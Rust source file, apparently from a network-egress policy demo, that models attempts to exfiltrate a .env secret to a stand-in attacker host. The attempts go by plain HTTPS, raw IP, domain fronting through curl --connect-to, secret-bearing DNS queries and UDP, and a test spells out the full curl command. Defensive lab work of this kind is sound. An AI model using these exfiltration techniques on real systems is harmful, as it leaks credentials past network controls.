//! What is tried in the demo? Each attempt as data: what a person would type, and which client does it.

use std::net::{IpAddr, SocketAddr};

use bottle_lab::addresses::{ATTACKER, FOREIGN_DNS};
use serde::{Deserialize, Serialize};

/// The one name that the demo's policy allows.
pub const ALLOWED: &str = "api.allowed.example";
/// The name of whoever wants the secret.
pub const ATTACKERS: &str = "evil.attacker.example";
/// The file with the secret.
pub const SECRET_FILE: &str = ".env";

/// What is tried, in this order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum Attempt {
    /// An HTTPS request to the allowed name.
    Allowed,
    /// The secret to an unknown name.
    ByName,
    /// The secret straight to an address.
    ByAddress,
    /// The secret to an unknown name behind the allowed name's address.
    Fronted,
    /// The secret in a question to a resolver that nobody configured.
    Resolver,
    /// The secret in a UDP packet.
    Datagram,
}

/// All of them.
pub const ATTEMPTS: [Attempt; 6] =
    [Attempt::Allowed, Attempt::ByName, Attempt::ByAddress, Attempt::Fronted, Attempt::Resolver, Attempt::Datagram];

/// An HTTP request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Fetch {
    /// Whether over TLS.
    pub tls: bool,
    /// The host in the URL.
    pub host: &'static str,
    /// The name that is dialled, if it is another one.
    pub door: Option<&'static str>,
    /// Whether the secret goes along.
    pub secret: bool,
}

/// What an attempt does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Act {
    /// An HTTP request.
    Fetch(Fetch),
    /// A DNS question over UDP, whose first label is the secret.
    Ask(SocketAddr),
    /// A UDP packet.
    Send(SocketAddr),
}

impl Attempt {
    /// What it does.
    pub fn act(self) -> Act {
        let plain = Fetch { tls: true, host: ATTACKERS, door: None, secret: true };
        match self {
            Attempt::Allowed => Act::Fetch(Fetch { host: ALLOWED, secret: false, ..plain }),
            Attempt::ByName => Act::Fetch(plain),
            // The attacker's own address, as text.
            Attempt::ByAddress => Act::Fetch(Fetch { tls: false, host: "11.6.6.6", ..plain }),
            Attempt::Fronted => Act::Fetch(Fetch { door: Some(ALLOWED), ..plain }),
            Attempt::Resolver => Act::Ask(SocketAddr::new(IpAddr::V4(FOREIGN_DNS), 53)),
            Attempt::Datagram => Act::Send(SocketAddr::new(IpAddr::V4(ATTACKER), 443)),
        }
    }

    /// The question that carries the secret.
    pub fn question(secret: &str) -> String {
        format!("{secret}.{ATTACKERS}")
    }
}

impl Fetch {
    /// The URL.
    pub fn url(&self) -> String {
        let scheme = if self.tls { "https" } else { "http" };
        format!("{scheme}://{}/", self.host)
    }

    /// The port that is dialled.
    pub fn port(&self) -> u16 {
        if self.tls { 443 } else { 80 }
    }

    /// The arguments that a person would give to curl.
    pub fn curl(&self) -> Vec<String> {
        let mut arguments = Vec::new();
        if self.secret {
            arguments.extend(["-d".to_owned(), format!("@{SECRET_FILE}")]);
        }
        if let Some(door) = self.door {
            let port = self.port();
            arguments.extend(["--connect-to".to_owned(), format!("{}:{port}:{door}:{port}", self.host)]);
        }
        arguments.push(self.url());
        arguments
    }
}

/// What the client saw.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Observation {
    /// Which attempt.
    pub attempt: Attempt,
    /// What was run, as a person would type it.
    pub shown: String,
    /// Whether it did what it was for, as far as the client can tell.
    pub worked: bool,
    /// Whether the connection was reset.
    pub reset: bool,
    /// The client's last words.
    pub said: String,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_attackers_address_is_the_labs() {
        let Act::Fetch(fetch) = Attempt::ByAddress.act() else { panic!("a request") };
        assert_eq!(fetch.host, ATTACKER.to_string());
    }

    #[test]
    fn curl_is_given_what_a_person_would_type() {
        let Act::Fetch(fetch) = Attempt::Fronted.act() else { panic!("a request") };
        assert_eq!(
            fetch.curl().join(" "),
            "-d @.env --connect-to evil.attacker.example:443:api.allowed.example:443 https://evil.attacker.example/"
        );
    }
}
